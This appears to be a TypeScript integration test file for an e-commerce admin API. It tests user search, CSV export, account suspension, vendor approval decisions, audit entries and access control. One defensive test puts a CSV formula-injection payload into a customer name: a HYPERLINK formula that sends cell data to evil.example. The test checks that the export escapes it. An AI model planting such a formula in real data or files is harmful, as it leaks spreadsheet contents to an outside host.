import { randomBytes, randomInt } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KIT_PASSWORD, newGstin, signInAdmin, signUpCustomer, signUpVendor, verifyEmailOf } from '../../../test/accounts-kit';
import { cookieFrom, createTestApp, json, uniqueEmail, type TestApp } from '../../../test/test-app';

let t: TestApp;
let admin: { cookie: string; email: string };
beforeAll(async () => {
  t = await createTestApp({ PUBLIC_FORM_LIMIT_PER_HOUR: 10_000, LOGIN_MAX_FAILURES: 1000 });
  admin = await signInAdmin(t);
});
afterAll(() => t.close());

const SUSPENDED = 'This account has been suspended. Please contact support@sahyadricomputers.in.';

interface ListedUser {
  uid: string;
  email: string;
  role: string;
  suspended: boolean;
  suspendedReason: string | null;
  vendor: { id: string; businessName: string; status: string } | null;
}

async function list(query: string, cookie = admin.cookie) {
  const res = await json(t.app, 'GET', `/api/admin/users?${query}`, undefined, cookie);
  expect(res.statusCode, query).toBe(200);
  return res.json() as { items: ListedUser[]; total: number };
}

function randomMobile() {
  return `9${String(randomInt(100_000_000, 999_999_999))}`;
}

async function vendorWithMobile(mobile: string, businessName = `Sahyadri Test ${randomBytes(3).toString('hex')} Pvt Ltd`) {
  const email = uniqueEmail('vendor');
  const res = await json(t.app, 'POST', '/api/vendors/register', {
    name: 'Rohan Deshmukh',
    email,
    password: KIT_PASSWORD,
    confirmPassword: KIT_PASSWORD,
    businessName,
    mobile,
    gstin: newGstin('27'),
    pickupLine1: 'Shop 2, Laxmi Road',
    pickupCity: 'Pune',
    pickupState: 'Maharashtra',
    pickupPinCode: '411005',
  });
  expect(res.statusCode).toBe(201);
  // An application is approved only once its address is verified: the applicant follows the e-mailed link.
  await verifyEmailOf(t, email);
  return { cookie: cookieFrom(res), email, uid: res.json().user.uid as string, vendorId: res.json().user.vendor.id as string };
}

function login(email: string, portal: 'customer' | 'vendor' | 'admin' = 'customer') {
  return json(t.app, 'POST', '/api/auth/login', { email, password: KIT_PASSWORD, portal });
}

const suspend = (uid: string, reason = 'Repeated chargebacks on card orders', cookie = admin.cookie) =>
  json(t.app, 'POST', `/api/admin/users/${uid}/suspend`, { reason }, cookie);
const reactivate = (uid: string, reason = 'Cleared after a call with the customer', cookie = admin.cookie) =>
  json(t.app, 'POST', `/api/admin/users/${uid}/reactivate`, { reason }, cookie);
const decide = (vendorId: string, decision: string, reason?: string) =>
  json(t.app, 'POST', `/api/admin/vendors/${vendorId}/decision`, { decision, ...(reason ? { reason } : {}) }, admin.cookie);

describe('searching and filtering accounts', () => {
  it("finds a customer by an address's mobile and a vendor by its mobile, however the number is typed", async () => {
    const customerMobile = randomMobile();
    const customer = await signUpCustomer(t, 'Meera Kulkarni');
    const address = await json(
      t.app,
      'POST',
      '/api/addresses',
      {
        fullName: 'Meera Kulkarni',
        mobile: customerMobile,
        line1: 'Flat 4, Shanti Kunj',
        city: 'Pune',
        state: 'Maharashtra',
        pinCode: '411004',
      },
      customer.cookie,
    );
    expect(address.statusCode).toBe(201);
    const vendorMobile = randomMobile();
    const vendor = await vendorWithMobile(vendorMobile);

    for (const typed of [`+91 ${customerMobile.slice(0, 5)} ${customerMobile.slice(5)}`, customerMobile, `0${customerMobile}`]) {
      expect(
        (await list(`q=${encodeURIComponent(typed)}`)).items.map((u) => u.uid),
        typed,
      ).toEqual([customer.uid]);
    }
    expect((await list(`q=${encodeURIComponent(`+91-${vendorMobile}`)}`)).items.map((u) => u.uid)).toEqual([vendor.uid]);
    // Part of a number finds it too; a role filter still applies.
    expect((await list(`q=${vendorMobile.slice(2, 9)}`)).items.map((u) => u.uid)).toContain(vendor.uid);
    expect((await list(`q=${vendorMobile}&role=customer`)).total).toBe(0);
  });

  it('finds a vendor by its business name', async () => {
    const token = `Biz${randomBytes(3).toString('hex')}`;
    const vendor = await vendorWithMobile(randomMobile(), `${token} Computers LLP`);
    const found = await list(`q=${token.toLowerCase()}`);
    expect(found.items.map((u) => u.uid)).toEqual([vendor.uid]);
    expect(found.items[0]!.vendor).toMatchObject({ businessName: `${token} Computers LLP`, status: 'pending' });
  });

  it("filters by the account's status and the vendor's", async () => {
    const token = `flt${randomBytes(3).toString('hex')}`;
    const active = await signUpCustomer(t, `Active ${token}`);
    const banned = await signUpCustomer(t, `Banned ${token}`);
    const pending = await signUpVendor(t, `Pending ${token} Traders`);
    const approved = await signUpVendor(t, `Approved ${token} Traders`);
    const rejected = await signUpVendor(t, `Rejected ${token} Traders`);
    expect((await decide(approved.vendorId, 'approve')).statusCode).toBe(200);
    expect((await decide(rejected.vendorId, 'reject', 'GSTIN does not match the business name')).statusCode).toBe(200);
    expect((await suspend(banned.uid)).statusCode).toBe(200);

    const uids = async (query: string) => (await list(`q=${token}&${query}`)).items.map((u) => u.uid).sort();
    expect(await uids('status=suspended')).toEqual([banned.uid]);
    expect(await uids('status=active')).toEqual([active.uid, pending.uid, approved.uid, rejected.uid].sort());
    expect(await uids('status=active&role=customer')).toEqual([active.uid]);
    expect(await uids('status=pending')).toEqual([pending.uid]);
    expect(await uids('status=approved')).toEqual([approved.uid]);
    expect(await uids('status=rejected')).toEqual([rejected.uid]);
    const listed = (await list(`q=${token}&status=suspended`)).items[0]!;
    expect(listed).toMatchObject({ suspended: true, suspendedReason: 'Repeated chargebacks on card orders' });

    const bad = await json(t.app, 'GET', '/api/admin/users?status=sleeping', undefined, admin.cookie);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields.status).toMatch(/Status must be one of/);
  });

  it('exports as CSV exactly the rows of the filtered list, across all its pages', async () => {
    const token = `csv${randomBytes(3).toString('hex')}`;
    for (let i = 0; i < 4; i++) await signUpCustomer(t, `Csv ${token} ${i}`);
    await signUpVendor(t, `${token} Systems, "Quoted" & Co`);
    const filtered = await list(`q=${token}&sort=name&pageSize=100`);
    expect(filtered.total).toBe(5);

    const res = await json(t.app, 'GET', `/api/admin/users/export.csv?q=${token}&sort=name&pageSize=2&page=2`, undefined, admin.cookie);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="users-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = parse(res.body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.email)).toEqual(filtered.items.map((u) => u.email));
    expect(rows.find((r) => r.role === 'vendor')).toMatchObject({
      business_name: `${token} Systems, "Quoted" & Co`,
      vendor_status: 'pending',
      account_status: 'active',
    });
  });
  it('writes a name or business that starts like a formula as text a spreadsheet will not run (decision 56)', async () => {
    const token = `fx${randomBytes(3).toString('hex')}`;
    const name = `=HYPERLINK("http://evil.example/?leak="&A1,"${token}")`;
    await signUpCustomer(t, name);
    await signUpVendor(t, `@SUM(1+1) ${token} Traders`);
    const res = await json(t.app, 'GET', `/api/admin/users/export.csv?q=${token}&sort=name`, undefined, admin.cookie);
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toContain(`'${name}`);
    expect(rows.map((r) => r.business_name)).toContain(`'@SUM(1+1) ${token} Traders`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes the CSV as Excel in India reads it: a BOM before the header, and times in India', async () => {
    const token = `ist${randomBytes(3).toString('hex')}`;
    const late = await signUpCustomer(t, `Late ${token} सायली`);
    // 20:00 UTC on 31 March is 01:30 on 1 April in India: a new day, and a new financial year.
    await t.services.database.db.execute(sql`update users set created_at = '2026-03-31T20:00:00Z' where id = ${late.uid}`);
    const res = await json(t.app, 'GET', `/api/admin/users/export.csv?q=${token}`, undefined, admin.cookie);
    expect(res.statusCode).toBe(200);
    expect(res.body.startsWith('\uFEFFuser_id,')).toBe(true);
    const [row, ...others] = parse(res.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(others).toEqual([]);
    expect(row).toMatchObject({ name: `Late ${token} सायली`, joined_at: '2026-04-01 01:30' });
  });
});

describe("a user's page", () => {
  it('shows the profile, addresses and live sessions with their device', async () => {
    const customer = await signUpCustomer(t, 'Sneha Gokhale');
    await json(
      t.app,
      'POST',
      '/api/addresses',
      { fullName: 'Sneha Gokhale', mobile: '9822011111', line1: '12 FC Road', city: 'Pune', state: 'Maharashtra', pinCode: '411004' },
      customer.cookie,
    );
    await t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { email: customer.email, password: KIT_PASSWORD },
      headers: { 'user-agent': 'Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36' },
    });
    const res = await json(t.app, 'GET', `/api/admin/users/${customer.uid}`, undefined, admin.cookie);
    expect(res.statusCode).toBe(200);
    const page = res.json();
    expect(page.user).toMatchObject({ uid: customer.uid, name: 'Sneha Gokhale', role: 'customer', suspended: false });
    expect(page.addresses).toMatchObject([{ line1: '12 FC Road', mobile: '+919822011111' }]);
    expect(page.vendor).toBeNull();
    expect(page.orders).toEqual({ total: 0, recent: [] });
    expect(page.reviews).toEqual({ total: 0, recent: [] });
    expect(page.sessions).toHaveLength(2);
    expect(page.sessions.map((s: { device: string }) => s.device)).toContain('Chrome on Android');

    const missing = await json(t.app, 'GET', '/api/admin/users/usr_nobody', undefined, admin.cookie);
    expect(missing.statusCode).toBe(404);
  });

  it("shows a vendor's business with its status and reason", async () => {
    const vendor = await vendorWithMobile(randomMobile(), 'Wagholi Monitors');
    await decide(vendor.vendorId, 'reject', 'We could not verify the pickup address');
    const page = (await json(t.app, 'GET', `/api/admin/users/${vendor.uid}`, undefined, admin.cookie)).json();
    expect(page.vendor).toMatchObject({
      id: vendor.vendorId,
      businessName: 'Wagholi Monitors',
      status: 'rejected',
      statusReason: 'We could not verify the pickup address',
    });
  });
});

describe('suspending and reactivating an account', () => {
  it('ends every session at once, refuses sign-in with a clear message, and reactivation lets it back in', async () => {
    const customer = await signUpCustomer(t, 'Kiran Pawar');
    const second = cookieFrom(await login(customer.email));
    expect((await json(t.app, 'GET', '/api/addresses', undefined, customer.cookie)).statusCode).toBe(200);

    const res = await suspend(customer.uid, 'Abusive messages to delivery staff');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ suspended: true, sessionsEnded: 2, vendorStatus: null });

    for (const cookie of [customer.cookie, second]) {
      expect((await json(t.app, 'GET', '/api/addresses', undefined, cookie)).statusCode).toBe(401);
      expect((await json(t.app, 'GET', '/api/auth/session', undefined, cookie)).json().user).toBeNull();
    }
    const refused = await login(customer.email);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().error.message).toBe(SUSPENDED);
    // A wrong password still says only that the credentials are wrong.
    const wrong = await json(t.app, 'POST', '/api/auth/login', { email: customer.email, password: 'not-the-password' });
    expect(wrong.statusCode).toBe(401);

    expect((await suspend(customer.uid)).json().error).toMatchObject({ code: 'CONFLICT', message: 'This account is already suspended.' });

    const back = await reactivate(customer.uid);
    expect(back.statusCode).toBe(200);
    expect(back.json()).toMatchObject({ suspended: false, suspendedReason: null });
    const signedIn = await login(customer.email);
    expect(signedIn.statusCode).toBe(200);
    expect((await json(t.app, 'GET', '/api/addresses', undefined, cookieFrom(signedIn))).statusCode).toBe(200);
    expect((await reactivate(customer.uid)).json().error).toMatchObject({ code: 'CONFLICT', message: 'This account is not suspended.' });
  });

  it('needs a reason', async () => {
    const customer = await signUpCustomer(t);
    const res = await json(t.app, 'POST', `/api/admin/users/${customer.uid}/suspend`, { reason: ' ' }, admin.cookie);
    expect(res.statusCode).toBe(400);
    expect(res.json().error.fields.reason).toBe('Give a reason of at least 5 characters');
  });

  it("suspends an approved vendor's business with its account, and approves it again on reactivation", async () => {
    const vendor = await vendorWithMobile(randomMobile());
    await decide(vendor.vendorId, 'approve');
    expect((await suspend(vendor.uid, 'Shipped counterfeit chargers')).json()).toMatchObject({ vendorStatus: 'suspended' });
    const page = (await json(t.app, 'GET', `/api/admin/users/${vendor.uid}`, undefined, admin.cookie)).json();
    expect(page.vendor).toMatchObject({ status: 'suspended', statusReason: 'Shipped counterfeit chargers' });
    expect((await login(vendor.email, 'vendor')).json().error.message).toBe(SUSPENDED);

    expect((await reactivate(vendor.uid)).json()).toMatchObject({ vendorStatus: 'approved' });
    const me = await json(t.app, 'GET', '/api/vendors/me', undefined, cookieFrom(await login(vendor.email, 'vendor')));
    expect(me.json().vendor).toMatchObject({ status: 'approved', statusReason: null });
  });

  it('records each suspension and reactivation in the audit log', async () => {
    const customer = await signUpCustomer(t);
    await suspend(customer.uid, 'Audit trail check reason');
    await reactivate(customer.uid, 'Audit trail lifted');
    const audit = await json(t.app, 'GET', `/api/admin/audit?pageSize=100`, undefined, admin.cookie);
    const entries = (audit.json().items as { action: string; entityId: string; after: { reason?: string } }[]).filter(
      (e) => e.entityId === customer.uid,
    );
    expect(entries.map((e) => [e.action, e.after.reason])).toEqual([
      ['account.reactivate', 'Audit trail lifted'],
      ['account.suspend', 'Audit trail check reason'],
    ]);
  });
});

describe("a vendor's account suspended and reactivated", () => {
  it('is one audit entry each, carrying the business suspended or reinstated with it as a step', async () => {
    const vendor = await vendorWithMobile(randomMobile(), 'Hadapsar Hardware Hub');
    await decide(vendor.vendorId, 'approve');
    await suspend(vendor.uid, 'Shipped counterfeit chargers');
    await reactivate(vendor.uid, 'Proved the chargers genuine');
    const audit = await json(t.app, 'GET', `/api/admin/audit?pageSize=100`, undefined, admin.cookie);
    const entries = (
      audit.json().items as { action: string; entityId: string; vendorId: string | null; after: { steps?: string[] } }[]
    ).filter((e) => [vendor.uid, vendor.vendorId].includes(e.entityId) && /suspend|reactivate|reinstate/.test(e.action));
    expect(entries.map((e) => [e.action, e.vendorId, e.after.steps])).toEqual([
      ['account.reactivate', vendor.vendorId, ['Reinstated Hadapsar Hardware Hub with its account']],
      ['account.suspend', vendor.vendorId, ['Suspended Hadapsar Hardware Hub with its account: Shipped counterfeit chargers']],
    ]);
  });
});

describe('deciding on vendors', () => {
  it('rejects with a reason the vendor reads, and refuses a rejection without one', async () => {
    const vendor = await vendorWithMobile(randomMobile());
    const bare = await decide(vendor.vendorId, 'reject');
    expect(bare.statusCode).toBe(400);
    expect(bare.json().error.fields.reason).toMatch(/the vendor reads it/);

    expect((await decide(vendor.vendorId, 'reject', 'Your GSTIN is registered to another business')).json()).toMatchObject({
      status: 'rejected',
    });
    const me = await json(t.app, 'GET', '/api/vendors/me', undefined, vendor.cookie);
    expect(me.json().vendor).toMatchObject({ status: 'rejected', statusReason: 'Your GSTIN is registered to another business' });
  });

  it('suspends an approved vendor with a reason and reinstates it; other moves are refused', async () => {
    const vendor = await vendorWithMobile(randomMobile());
    expect((await decide(vendor.vendorId, 'suspend', 'Late shipments')).json().error.message).toBe(
      'Only an approved vendor can be suspended; this one is pending.',
    );
    await decide(vendor.vendorId, 'approve');
    expect((await decide(vendor.vendorId, 'suspend', 'Too many late shipments')).json()).toMatchObject({ status: 'suspended' });
    const me = await json(t.app, 'GET', '/api/vendors/me', undefined, vendor.cookie);
    expect(me.json().vendor).toMatchObject({ status: 'suspended', statusReason: 'Too many late shipments' });
    // The vendor's account itself is not suspended: it can still read its panel.
    expect((await list(`q=${vendor.email}`)).items[0]).toMatchObject({ suspended: false });

    expect((await decide(vendor.vendorId, 'reinstate')).json()).toMatchObject({ status: 'approved' });
    expect((await decide(vendor.vendorId, 'reinstate')).json().error.message).toBe(
      'Only a suspended vendor can be reinstated; this one is approved.',
    );
  });
});

describe('protecting the admins', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await createTestApp();
  });
  afterAll(() => app.close());

  async function newAdmin() {
    const signed = await signInAdmin(app);
    const uid = (await json(app.app, 'GET', '/api/auth/session', undefined, signed.cookie)).json().user.uid as string;
    return { ...signed, uid };
  }
  const act = (path: string, uid: string, cookie: string) =>
    json(app.app, 'POST', `/api/admin/users/${uid}/${path}`, { reason: 'Left the company last week' }, cookie);
  async function activeAdmins() {
    const res = await json(app.app, 'GET', '/api/admin/users?role=admin&status=active&pageSize=100', undefined, first.cookie);
    return (res.json().items as { uid: string }[]).map((u) => u.uid);
  }
  let first: Awaited<ReturnType<typeof newAdmin>>;

  it('refuses to suspend yourself', async () => {
    first = await newAdmin();
    const res = await act('suspend', first.uid, first.cookie);
    expect(res.statusCode).toBe(409);
    expect(res.json().error.message).toBe('You cannot suspend your own account. Another admin can, if it must be done.');
  });

  it('lets an admin suspend another while one stays active, and signs the suspended admin out', async () => {
    const second = await newAdmin();
    expect((await act('suspend', second.uid, first.cookie)).statusCode).toBe(200);
    expect(await activeAdmins()).toEqual([first.uid]);
    // The suspended admin is signed out: its own requests are now refused as a visitor's.
    expect((await act('suspend', first.uid, second.cookie)).statusCode).toBe(401);
    expect((await act('reactivate', second.uid, first.cookie)).statusCode).toBe(200);
  });

  it('leaves exactly one admin active when two suspend each other at the same moment', async () => {
    for (let round = 0; round < 5; round++) {
      const a = await newAdmin();
      const b = await newAdmin();
      // Only a and b are active admins in this round.
      for (const uid of await activeAdmins()) {
        if (uid !== a.uid && uid !== b.uid) expect((await act('suspend', uid, a.cookie)).statusCode).toBe(200);
      }
      const [ab, ba] = await Promise.all([act('suspend', b.uid, a.cookie), act('suspend', a.uid, b.cookie)]);
      const statuses = [ab.statusCode, ba.statusCode].sort();
      expect(statuses[0]).toBe(200);
      expect([401, 403, 409]).toContain(statuses[1]);
      const loser = ab.statusCode === 200 ? ba : ab;
      if (loser.statusCode === 409) expect(loser.json().error.message).toMatch(/last active admin/);
      const remaining = await json(
        app.app,
        'GET',
        '/api/admin/users?role=admin&status=active',
        undefined,
        (ab.statusCode === 200 ? a : b).cookie,
      );
      expect(remaining.json().total).toBe(1);
      first = ab.statusCode === 200 ? a : b;
    }
  });
});

describe('who may manage accounts', () => {
  it('refuses customers and vendors (403) and visitors (401) on every route', async () => {
    const customer = await signUpCustomer(t);
    const vendor = await signUpVendor(t);
    const routes: [string, string, unknown?][] = [
      ['GET', '/api/admin/users'],
      ['GET', '/api/admin/users/export.csv'],
      ['GET', `/api/admin/users/${customer.uid}`],
      ['POST', `/api/admin/users/${customer.uid}/suspend`, { reason: 'Trying to suspend' }],
      ['POST', `/api/admin/users/${customer.uid}/reactivate`, { reason: 'Trying to reactivate' }],
      ['POST', `/api/admin/vendors/${vendor.vendorId}/decision`, { decision: 'suspend', reason: 'Trying to suspend' }],
    ];
    for (const [method, url, body] of routes) {
      expect((await json(t.app, method as 'GET', url, body, customer.cookie)).statusCode, `${method} ${url} customer`).toBe(403);
      expect((await json(t.app, method as 'GET', url, body, vendor.cookie)).statusCode, `${method} ${url} vendor`).toBe(403);
      expect((await json(t.app, method as 'GET', url, body)).statusCode, `${method} ${url} visitor`).toBe(401);
    }
    expect((await list(`q=${customer.email}`)).items[0]).toMatchObject({ suspended: false });
  });
});
